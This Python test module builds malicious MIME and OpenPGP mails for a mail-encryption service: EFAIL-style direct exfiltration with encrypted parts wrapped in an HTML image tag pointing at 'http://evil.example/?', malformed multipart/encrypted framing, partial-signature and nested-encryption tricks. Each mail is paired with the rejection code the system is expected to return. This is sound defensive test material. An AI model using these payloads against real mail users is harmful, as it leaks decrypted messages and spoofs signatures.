"""Mails that are encrypted, or signed, in a part only: EFAIL's direct exfiltration, parts beside, types told twice, signatures within."""

from __future__ import annotations

import base64
import quopri
import re
import time
from collections.abc import Callable

from attack_packets import content, literal, sealed
from bad_mails import CANARY, Bad, Stage, head_of
from mail_styles import multipart, part
from town import entity, mail_of

# --- encrypted parts of a mail that is not encrypted -------------------------------------------------------------------

LEAK = part("text/html", '<img src="http://evil.example/?')
CLOSE = part("text/html", '">')


def encrypted_part(s: Stage) -> bytes:
    """A multipart/encrypted by Anna, as an entity without a mail's header."""
    made = mail_of(s.town.encrypt(s.anna, content()), "x")
    return made[made.index(b"Content-Type: multipart/encrypted") :]


def plain(s: Stage, inside: bytes) -> bytes:
    """A mail of Anna's with this entity for its body, in clear."""
    return head_of(s, Content_Type="") + inside


def within(kind: str, *, before: bytes = LEAK, after: bytes = CLOSE) -> Callable[[Stage], bytes]:
    """An encrypted part between two others, in a multipart of this kind."""
    return lambda s: plain(s, multipart(kind, *filter(None, (before, encrypted_part(s), after))))


def apple_mail(s: Stage) -> bytes:
    """The encrypted data as one more part, without a multipart/encrypted around, as programs that mend mails accept it."""
    data = part("application/octet-stream; name=encrypted.asc", s.town.encrypt(s.anna, content()))
    return plain(s, multipart("mixed", LEAK, part("application/pgp-encrypted", "Version: 1"), data, CLOSE))


def external(s: Stage) -> bytes:
    """A body that is to be fetched (RFC 2046, 5.2.3)."""
    kind = 'message/external-body; access-type=URL; URL="http://evil.example/"'
    return plain(s, part(kind, b"Content-Type: multipart/encrypted\r\n\r\n" + s.town.encrypt(s.anna, content())))


def signed_around(s: Stage) -> bytes:
    """Encrypted, then signed in clear: who signed is seen, and anybody can sign it anew."""
    return plain(s, s.people.multipart_signed(s.anna, encrypted_part(s)))


EXFILTRATION = {
    **{
        f"a picture's address around the encrypted part, in {kind}": Bad(within(kind), "not-encrypted", "open")
        for kind in ("mixed", "related", "alternative", "signed", "digest", "parallel", "x-unknown")
    },
    "a picture's address around the encrypted part, in a delivery report": Bad(within("report"), "automatic", "receive"),
    "an encrypted part alone in a multipart/mixed": Bad(within("mixed", before=b"", after=b""), "not-encrypted", "open"),
    "a footer behind the encrypted part": Bad(
        within("mixed", before=b"", after=part("text/plain", "-- \r\nfooter")), "not-encrypted", "open"
    ),
    "a picture's address in the encrypted mail itself": Bad(
        lambda s: s.post().replace(b"--b0\r\n", b"--b0\r\n" + LEAK + b"\r\n--b0\r\n", 1), "not-one-object", "open"
    ),
    "parts behind the encrypted one, and before": Bad(
        lambda s: (
            s.post().replace(b"--b0\r\n", b"--b0\r\n" + LEAK + b"\r\n--b0\r\n", 1).replace(b"--b0--", b"--b0\r\n" + CLOSE + b"\r\n--b0--")
        ),
        "not-one-object",
        "open",
    ),
    "encrypted data between pages, mended by some": Bad(apple_mail, "not-encrypted", "open"),
    "an encrypted mail forwarded": Bad(lambda s: plain(s, part("message/rfc822", s.post())), "not-encrypted", "open"),
    "an encrypted mail forwarded with a note": Bad(
        lambda s: plain(s, multipart("mixed", entity("see below"), part("message/rfc822", s.post()))), "not-encrypted", "open"
    ),
    "a part of an encrypted mail": Bad(
        lambda s: plain(s, part('message/partial; id="x"; number=1; total=1', s.post())), "not-encrypted", "open"
    ),
    "an encrypted body that is to be fetched": Bad(external, "not-encrypted", "open"),
    "signed in clear around the encrypted part": Bad(signed_around, "not-encrypted", "open"),
}


# --- a multipart/encrypted that is odd ---------------------------------------------------------------------------------


def replaced(*pairs: tuple[bytes, bytes], beside: bytes = b"") -> Callable[[Stage], bytes]:
    """A post of Anna's with octets of its MIME framing replaced, and fields put in front."""

    def make(s: Stage) -> bytes:
        mail = s.post()
        for old, new in pairs:
            assert old in mail
            mail = mail.replace(old, new, 1)
        return beside + mail

    return make


def encoded(name: str, encode: Callable[[bytes], bytes]) -> Callable[[Stage], bytes]:
    """A post of Anna's whose encrypted part is in this transfer encoding."""

    def make(s: Stage) -> bytes:
        head, _, body = s.post().partition(b"octet-stream\r\n\r\n")
        data, end = body[: body.index(b"\r\n--b0--")], body[body.index(b"\r\n--b0--") :]
        return head + b"octet-stream\r\nContent-Transfer-Encoding: " + name.encode() + b"\r\n\r\n" + encode(data) + end

    return make


CONTROL, DATA = b"Content-Type: application/pgp-encrypted\r\n", b"Content-Type: application/octet-stream\r\n"
VERSION = b"\r\nVersion: 1\r\n"
HTML = b"Content-Type: text/html\r\n"

ODD_PARTS = {
    "the two parts exchanged": Bad(replaced((CONTROL, b"X"), (DATA, CONTROL), (b"X", DATA)), "not-one-object", "open"),
    "the control part twice": Bad(replaced((DATA, CONTROL)), "not-one-object", "open"),
    "the encrypted part as a page": Bad(replaced((DATA, HTML)), "not-one-object", "open"),
    "the encrypted part as a text": Bad(replaced((DATA, b"Content-Type: text/plain\r\n")), "not-one-object", "open"),
    "the encrypted part without a type": Bad(replaced((DATA, b"")), "not-one-object", "open"),
    "the encrypted part in a multipart": Bad(
        lambda s: re.sub(
            rb"Content-Type: application/octet-stream.*(?=\r\n--b0--)", lambda m: multipart("mixed", m[0]), s.post(), flags=re.DOTALL
        ),
        "not-one-object",
        "open",
    ),
    "a control part that is text": Bad(replaced((CONTROL, b"Content-Type: text/plain\r\n")), "not-one-object", "open"),
    "a control part of version 2": Bad(replaced((VERSION, b"\r\nVersion: 2\r\n")), "not-one-object", "open"),
    "a control part of no version": Bad(replaced((VERSION, b"\r\n\r\n")), "not-one-object", "open"),
    "a control part with text": Bad(replaced((VERSION, VERSION + b"The name servers are down!\r\n")), "not-one-object", "open"),
    "a control part with a page": Bad(replaced((VERSION, VERSION + b'<img src="http://evil.example/?\r\n')), "not-one-object", "open"),
    "another protocol": Bad(replaced((b'"application/pgp-encrypted"', b'"application/pkcs7-mime"')), "not-one-object", "open"),
    "the protocol of a signature": Bad(
        replaced((b'"application/pgp-encrypted"', b'"application/pgp-signature"')), "not-one-object", "open"
    ),
    "encrypted and also a page": Bad(replaced(beside=HTML), "not-encrypted", "open"),
    "also a page, said second": Bad(replaced((b"\r\n\r\n--b0", b"\r\n" + HTML + b"\r\n--b0")), "not-one-object", "open"),
    "the encrypted part also a page": Bad(replaced((DATA, DATA + HTML)), "not-one-object", "open"),
    "the control part also a page": Bad(replaced((CONTROL, CONTROL + HTML)), "not-one-object", "open"),
    "two boundaries, the first of nothing": Bad(replaced((b'boundary="b0"', b'boundary="b1"; boundary="b0"')), "bad-multipart", "open"),
    "a boundary of RFC 2231 that is another": Bad(replaced((b'boundary="b0"', b"boundary*=utf-8''b1")), "bad-multipart", "open"),
    "a boundary of 71 characters": Bad(lambda s: re.sub(rb'(?<=")b0(?=")|(?<=--)b0', b"b" * 71, s.post()), "bad-multipart", "open"),
    "a type with a comment in it": Bad(replaced((b"multipart/encrypted", b"multipart/(x)encrypted")), "text-outside-block", "open"),
    "a type that is none": Bad(replaced((b"multipart/encrypted", b"encrypted")), "text-outside-block", "open"),
    "base64 twice": Bad(encoded("base64", lambda b: base64.b64encode(base64.b64encode(b))), "not-encrypted", "open"),
    "base64 with text in it": Bad(
        encoded("base64", lambda b: base64.b64encode(b) + b"\r\nThe name servers are down!"), "bad-encoding", "open"
    ),
    "uuencoded": Bad(encoded("x-uuencode", lambda b: b), "bad-encoding", "open"),
    "two transfer encodings": Bad(encoded("base64, quoted-printable", lambda b: b), "bad-encoding", "open"),
    "quoted-printable with text behind": Bad(
        encoded("quoted-printable", lambda b: quopri.encodestring(b) + b"\r\n=54he name servers are down!"), "text-outside-block", "open"
    ),
}


# --- inline: a body that is one block ----------------------------------------------------------------------------------


def inline(s: Stage, change: Callable[[bytes], bytes], kind: str = "text/plain; charset=utf-8", **fields: str) -> bytes:
    """A mail of Anna's whose body is an inline block, changed."""
    block = s.town.encrypt(s.anna, CANARY.encode())
    return head_of(s, Content_Type=kind, **fields) + b"\r\n" + change(block).replace(b"\n", b"\r\n")


INLINE = {
    "two inline blocks": Bad(lambda s: inline(s, lambda b: b + b"\n" + b), "text-outside-block", "open"),
    "an inline block that is quoted": Bad(lambda s: inline(s, lambda b: re.sub(rb"(?m)^", b"> ", b)), "not-one-block", "open"),
    "a quotation before the inline block": Bad(lambda s: inline(s, lambda b: b"> you wrote\n\n" + b), "text-outside-block", "open"),
    "a mail signature after the inline block": Bad(lambda s: inline(s, lambda b: b + b"\n-- \nAnna\n"), "text-outside-block", "open"),
    "text beside the inline block's last line": Bad(
        lambda s: inline(s, lambda b: b.replace(b"END PGP MESSAGE-----", b"END PGP MESSAGE-----!")), "not-one-block", "open"
    ),
    "a byte order mark before the inline block": Bad(lambda s: inline(s, lambda b: b"\xef\xbb\xbf" + b), "not-one-block", "open"),
    "an inline block in a multipart/mixed": Bad(
        lambda s: plain(s, multipart("mixed", part("text/plain", s.town.encrypt(s.anna, CANARY.encode())))), "not-encrypted", "open"
    ),
    "an inline block beside a page": Bad(
        lambda s: plain(s, multipart("alternative", part("text/plain", s.town.encrypt(s.anna, CANARY.encode())), LEAK)),
        "not-encrypted",
        "open",
    ),
    "an inline block in a page": Bad(
        lambda s: inline(s, lambda b: b'<img src="http://evil.example/?' + b + b'">', "text/html"), "not-encrypted", "open"
    ),
    "an inline block in base64 that it is not in": Bad(
        lambda s: inline(s, lambda b: b, Content_Transfer_Encoding="base64"), "bad-encoding", "open"
    ),
    "an inline block around an entity that was signed apart": Bad(
        lambda s: inline(s, lambda b: s.town.encrypt(None, s.people.multipart_signed(s.anna, content()))), "not-signed", "open"
    ),
    "clearsigned text in an inline block": Bad(
        lambda s: inline(s, lambda b: s.town.encrypt(None, s.people.clearsign(s.anna, CANARY))), "not-signed", "open"
    ),
    "clearsigned text beside an inline block": Bad(
        lambda s: inline(s, lambda b: s.people.clearsign(s.anna, CANARY) + b), "text-outside-block", "open"
    ),
}

ATTACKS_MIME = {**EXFILTRATION, **ODD_PARTS, **INLINE}


# --- partly signed, and encrypted once more ----------------------------------------------------------------------------


def unsigned(inside: Callable[[Stage], bytes]) -> Callable[[Stage], bytes]:
    """A mail to the list that was encrypted around this entity, without a signature of its own."""
    return lambda s: sealed(s, literal(inside(s)))


def twice(inside: Callable[[Stage], bytes]) -> Callable[[Stage], bytes]:
    """A post of Anna's, signed around this entity."""
    return lambda s: s.town.post(s.anna, inside(s))


def apart(s: Stage, *changes: tuple[bytes, bytes], data: bytes = b"") -> bytes:
    """A multipart/signed by Anna, changed after she signed."""
    made = s.people.multipart_signed(s.anna, data or entity(f"{CANARY} {time.time_ns()} one \r\ntwo"))
    for old, new in changes:
        assert old in made
        made = made.replace(old, new, 1)
    return made


SIGNATURE = b"Content-Type: application/pgp-signature"
MORE = b"--b\r\nContent-Type: text/plain\r\n\r\nmore\r\n"


def signature_first(s: Stage) -> bytes:
    head, first, second, tail = apart(s).split(b"--b")
    return b"--b".join((head, second, first, tail))


def attached_signature(s: Stage) -> bytes:
    """A file, and beside it its signature, as people attach them; nothing signs the text."""
    signature = s.people.gpg("-u", s.anna.fingerprint, "--armor", "--detach-sign", data=CANARY.encode())
    return multipart("mixed", entity(CANARY), part("application/octet-stream", CANARY), part("application/pgp-signature", signature))


PARTLY_SIGNED = {
    "an unsigned part after a signed one": Bad(unsigned(lambda s: multipart("mixed", apart(s), entity("unsigned"))), "not-signed", "open"),
    "an unsigned part before a signed one": Bad(unsigned(lambda s: multipart("mixed", entity("unsigned"), apart(s))), "not-signed", "open"),
    "a signed part alone in a multipart/mixed": Bad(unsigned(lambda s: multipart("mixed", apart(s))), "not-signed", "open"),
    "a signed part three levels down": Bad(
        unsigned(lambda s: multipart("mixed", multipart("related", multipart("alternative", apart(s))))), "not-signed", "open"
    ),
    "a signed mail forwarded": Bad(unsigned(lambda s: part("message/rfc822", s.mail(b"")[:0] + apart(s))), "not-signed", "open"),
    "a signed file beside unsigned text": Bad(unsigned(attached_signature), "not-signed", "open"),
    "a header before the signed part": Bad(unsigned(lambda s: b"\r\n" + apart(s)), "not-signed", "open"),
    "a signed part and another in one multipart/signed": Bad(
        unsigned(lambda s: apart(s, (b"\r\n--b\r\n" + SIGNATURE, b"\r\n" + MORE + b"--b\r\n" + SIGNATURE))), "not-one-signature", "open"
    ),
    "a part behind the signature": Bad(
        unsigned(lambda s: apart(s, (b"\r\n--b--", b"\r\n" + MORE + b"--b--"))), "not-one-signature", "open"
    ),
    "the signature first": Bad(unsigned(signature_first), "not-signed", "open"),
    "two multipart/signed in one another": Bad(
        unsigned(lambda s: apart(s, (b"multipart/signed", b"multipart/mixed"), data=apart(s))), "not-signed", "open"
    ),
    "a signature of another protocol": Bad(
        unsigned(lambda s: apart(s, (b'"application/pgp-signature"', b'"application/pkcs7-signature"'))), "not-signed", "open"
    ),
    "a signature of another type": Bad(unsigned(lambda s: apart(s, (SIGNATURE, SIGNATURE + b"-v2"))), "not-signed", "open"),
    "a signature that is a message": Bad(
        unsigned(lambda s: apart(s, (b"BEGIN PGP SIGNATURE", b"BEGIN PGP MESSAGE"), (b"END PGP SIGNATURE", b"END PGP MESSAGE"))),
        "not-signed",
        "open",
    ),
    "text beside the signature": Bad(
        unsigned(lambda s: apart(s, (b"-----BEGIN PGP SIG", b"bye\r\n-----BEGIN PGP SIG"))), "text-outside-block", "open"
    ),
    "a multipart/signed that does not end": Bad(unsigned(lambda s: apart(s, (b"--b--", b"--b"))), "bad-multipart", "open"),
    "a signed part whose header changed": Bad(
        unsigned(lambda s: apart(s, (b"charset=utf-8", b"charset=UTF-8"))), "bad-signature", "verify"
    ),
    "a signed part whose blanks at a line's end went": Bad(
        unsigned(lambda s: apart(s, (b"one \r\n", b"one\r\n"))), "bad-signature", "verify"
    ),
    "a signed part with an empty line more": Bad(
        unsigned(lambda s: apart(s, (b"\r\n--b\r\n" + SIGNATURE, b"\r\n\r\n--b\r\n" + SIGNATURE))), "bad-signature", "verify"
    ),
    "a signed part with a lone CR": Bad(unsigned(lambda s: apart(s, (b"one \r\n", b"one \r\r\n"))), "bare-line-end", "open"),
    "clearsigned text inside, in a part": Bad(
        unsigned(lambda s: multipart("mixed", entity(s.people.clearsign(s.anna, CANARY).decode()))), "not-signed", "open"
    ),
}


def encrypted_text(s: Stage) -> str:
    return s.people.gpg("--armor", "-r", s.bert.fingerprint, "--encrypt", data=b"between us").decode()


def smime(kind: str) -> bytes:
    return part(f"application/pkcs7-mime; smime-type={kind}", base64.b64encode(b"\x30\x80" * 30), "Content-Transfer-Encoding: base64")


# Signed as a whole by a member whose computer is somebody else's: other members' programs would decrypt what is theirs.
ENCRYPTED_TWICE = {
    "an encrypted mail as a signed post": Bad(twice(encrypted_part), "nested-encryption", "compose"),
    "an encrypted mail in a multipart/signed": Bad(unsigned(lambda s: apart(s, data=encrypted_part(s))), "nested-encryption", "compose"),
    "a picture's address around another's encrypted mail, signed": Bad(
        twice(lambda s: multipart("mixed", LEAK, encrypted_part(s), CLOSE)), "nested-encryption", "compose"
    ),
    "another's encrypted mail forwarded, signed": Bad(
        twice(lambda s: multipart("mixed", entity("see below"), part("message/rfc822", s.post()))), "nested-encryption", "compose"
    ),
    "another's encrypted data as programs mend them, signed": Bad(
        twice(lambda s: apple_mail(s).partition(b"\r\nContent-Type: ")[2].join((b"Content-Type: ", b""))), "nested-encryption", "compose"
    ),
    "an encrypted text as a signed post": Bad(twice(lambda s: entity(encrypted_text(s))), "nested-encryption", "compose"),
    "an encrypted text between others, signed": Bad(
        twice(lambda s: entity(f"Hello,\r\n{encrypted_text(s)}\r\nbye")), "nested-encryption", "compose"
    ),
    "an encrypted text in a page, signed": Bad(
        twice(lambda s: part("text/html", f'<img src="http://evil.example/?{encrypted_text(s)}">')), "nested-encryption", "compose"
    ),
    "an encrypted text in base64, signed": Bad(
        twice(lambda s: part("text/plain", base64.encodebytes(encrypted_text(s).encode()), "Content-Transfer-Encoding: base64")),
        "nested-encryption",
        "compose",
    ),
    "an encrypted text behind a damaged one, signed": Bad(
        twice(lambda s: entity(encrypted_text(s).replace("\n=", "\nA=A=") + encrypted_text(s))), "nested-encryption", "compose"
    ),
    "an encrypted text in an inline post": Bad(lambda s: s.inline(text=encrypted_text(s).encode()), "nested-encryption", "compose"),
    "S/MIME in a signed post": Bad(
        twice(lambda s: multipart("mixed", LEAK, smime("enveloped-data"), CLOSE)), "nested-encryption", "compose"
    ),
    "two types under the signature": Bad(twice(lambda s: HTML + content()), "not-one-object", "compose"),
    "two encodings under the signature": Bad(
        twice(lambda s: b"Content-Transfer-Encoding: base64\r\n" + content()), "not-one-object", "compose"
    ),
}

ATTACKS_PARTLY = {**PARTLY_SIGNED, **ENCRYPTED_TWICE}
